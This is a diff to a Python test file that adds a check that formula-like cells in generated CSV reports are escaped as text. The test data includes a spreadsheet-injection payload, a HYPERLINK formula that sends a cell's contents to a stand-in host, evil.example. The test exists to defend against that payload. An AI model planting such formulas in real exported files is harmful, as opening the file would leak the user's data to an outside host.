@@ -12,6 +12,7 @@
 from __future__ import annotations
 
 import copy
+import csv
 import hashlib
 import html.parser
 import importlib
@@ -23,10 +24,11 @@ import sys
 import types
 from pathlib import Path
 
+import pandas as pd
 import pytest
 
 from crsec_concordia import cli
-from crsec_concordia.metrics import report
+from crsec_concordia.metrics import csv_cells, report
 from crsec_concordia.models import EndpointError, embedded
 from crsec_concordia.models.base import redact_text, redact_url, scrub
 from crsec_concordia.models.openai_compatible import OpenAICompatibleModel
@@ -190,6 +192,42 @@ def test_sweep_json_keeps_no_credentials_of_a_base_url():
       spec, lambda: None), runs)
   assert PASSWORD not in json.dumps(data)
   assert data["endpoints"]["a"]["endpoint"] == "http://***@127.0.0.1:9/v1"
+
+
+# -- CSV cells a spreadsheet would run ----------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "+1+2",
+            "-2+3", "@SUM(A1:A9)", "\t=1+1"]
+
+
+def test_csv_cells_starting_like_a_formula_are_text(tmp_path):
+  run_dir = tmp_path / "run"
+  b = RunBuilder(run_dir, steps=3)
+  abigail, carlos = "Abigail Chen", "Carlos Gomez"
+  for i, formula in enumerate(FORMULAS, 1):
+    b.hold(1, abigail, formula, origin="created")
+    b.action(min(i, 3), carlos, ["smoking_indoors"], formula)
+  b.thought(2, carlos, FORMULAS)
+  report.run_report(b.write())
+  written = sorted(run_dir.rglob("*.csv"))
+  assert {"all.csv", "per_step.csv", "per_hour.csv"} <= {p.name for p in
+                                                         written}
+  for path in written:
+    with open(path, encoding="utf-8", newline="") as f:
+      for row in csv.reader(f):
+        for cell in row:
+          assert not cell.startswith(csv_cells.FORMULA_START), (path, cell)
+  rows = list(csv.DictReader(open(run_dir / "report" / "questionnaire" /
+                                  "all.csv", encoding="utf-8", newline="")))
+  outputs = {r["output"] for r in rows if r["operation"] == "creation"}
+  assert any(o.startswith("'=HYPERLINK(") for o in outputs), outputs
+  # Numbers stay numbers: a negative effect is not text.
+  assert csv_cells.safe_cell(-0.5) == -0.5
+  assert csv_cells.safe_cell("-0.5") == "'-0.5"
+  frame = csv_cells.safe_frame(pd.DataFrame({"metric": ["=x", "y"],
+                                             "mean": [-1.0, 2.0]}))
+  assert list(frame["metric"]) == ["'=x", "y"]
+  assert list(frame["mean"]) == [-1.0, 2.0]
 
 
 # -- agent-written text in the report ------------------------------------------
